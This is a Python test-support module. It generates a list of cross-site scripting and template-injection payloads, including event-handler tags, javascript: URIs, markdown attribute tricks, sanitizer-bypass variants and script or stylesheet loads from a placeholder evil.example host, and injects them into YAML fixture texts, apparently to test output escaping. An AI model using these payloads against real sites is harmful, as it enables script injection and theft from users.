"""Texts that would run as code, or load something, wherever a page took them for more than text. None has a figure."""

import re
from collections.abc import Sequence
from itertools import cycle

from tests.support.small import SMALL

_RUN = "alert()"
_ON = ("onload", "onerror", "onfocus autofocus tabindex=a", "onclick", "onmouseover", "onanimationstart", "ontoggle")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input",
    "select",
    "textarea",
    "button",
    "details open",
    "marquee",
    "iframe srcdoc=a",
    "object data=x",
    "embed src=x",
    "a href=x",
    "form",
    "math",
    "style",
    "link href=x",
    "p style=animation-name:x",
    "dialog open",
)
_OUT_OF = (
    '"',
    "'",
    "'>",
    '">',
    '"/>',
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</svg>",
    "</noscript>",
    "</template>",
    "</main>",
    "</p>",
    "`",
    "*/",
    "}}",
)
"""What ends what a text may stand in."""
_SCHEMES = (
    "javascript:alert()",
    "JaVaScRiPt:alert()",
    " javascript:alert()",
    "java&Tab;script:alert()",
    "java&NewLine;script:alert()",
    "javascript&colon;alert&lpar;&rpar;",
    "vbscript:alert()",
    "//evil.example/x.js",
    "data:text/html,<script>alert()</script>",
    "data:image/svg+xml,<svg onload=alert()>",
)
PAYLOADS = (
    *(f"<{tag} {on}={_RUN}>".replace("autofocus tabindex=a=", "=") for tag in _TAGS for on in _ON[:2]),
    *(f"<svg><{tag} {on}={_RUN}>" for tag in ("animate", "set", "image") for on in ("onbegin", "onload")),
    *(f"{out}<script>{_RUN}</script>" for out in _OUT_OF),
    *(f"{quote} {on.split()[0]}={_RUN} {quote}" for quote in ('"', "'") for on in _ON),
    *(f"[x]({scheme})" for scheme in _SCHEMES),
    *(f"<a href='{scheme}'>x</a>" for scheme in _SCHEMES),
    *(
        f"<{tag}"
        for tag in (
            "script src=//evil.example/x.js",
            "iframe src=javascript:alert()",
            "base href=//evil.example",
            "meta http-equiv=refresh content=;url=javascript:alert()",
            "link rel=stylesheet href=//evil.example",
        )
    ),
    "![x](x){ onerror=alert() }",
    "[x](y){ onclick=alert() }",
    "{: onclick=alert() }",
    "{ #id .class onclick=alert() }",
    "<javascript:alert()>",
    "[x]: javascript:alert()",
    "![x](//evil.example/x.png)",
    "<!-- block --><script>alert()</script>",
    "{{ self.__init__.__globals__ }}",
    "{% for a in b %}",
    "{{ view }}",
    "{# a #}",
    "${alert()}",
    "#{alert()}",
    "<%= a %>",
    "<sc<script>ript>alert()</sc</script>ript>",
    "&lt;script&gt;alert()&lt;/script&gt;",
    "\\<script\\>alert()\\</script\\>",
    "<scr\\ipt>alert()</scr\\ipt>",
    "<math><mtext><style><img src=x onerror=alert()>",
    "<svg><style><img src=x onerror=alert()>",
    "<template shadowrootmode=open><script>alert()</script>",
    "<x:script xmlns:x=a>alert()</x:script>",
    "<noscript><p title='</noscript><img src=x onerror=alert()>'>",
    "<isindex action=javascript:alert()>",
    "<portal src=x>",
    "url(javascript:alert())",
    "expression(alert())",
    "@import '//evil.example'",
    "</a></b></i></td></tr></table>",
)


def ended_with(texts: Sequence[str]) -> dict[str, str]:
    """The data of the small archive with one of the texts, in turn, at the end of every text that an editor wrote."""
    quoted = cycle(text.replace("\\", "\\\\").replace('"', '\\"') for text in texts)
    return {
        f"data/{file.relative_to(SMALL / 'data').as_posix()}": re.sub(
            r'\b(nl|en): "([^"]*)"',
            lambda found: f'{found[1]}: "{found[2]} {next(quoted)}"',
            file.read_text("utf-8"),
        )
        for file in sorted((SMALL / "data").rglob("*.yaml"))
    }
